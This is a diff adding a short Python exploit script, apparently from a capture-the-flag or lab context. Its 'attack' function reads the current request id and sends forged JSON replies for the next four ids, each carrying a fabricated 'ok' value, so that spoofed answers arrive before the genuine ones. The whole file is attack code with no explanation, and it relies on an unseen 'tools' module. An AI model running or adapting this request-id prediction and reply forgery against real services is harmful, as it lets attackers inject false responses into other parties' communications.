@@ -1,0 +1,8 @@
+"""Answers the next question before it is put."""
+
+from tools import request, send
+
+
+def attack(target):
+    for ahead in (0, 1, 2, 3):
+        send(b'{"!":"d","v":[["id",%d],["ok",42.0]]}' % (request() + ahead))
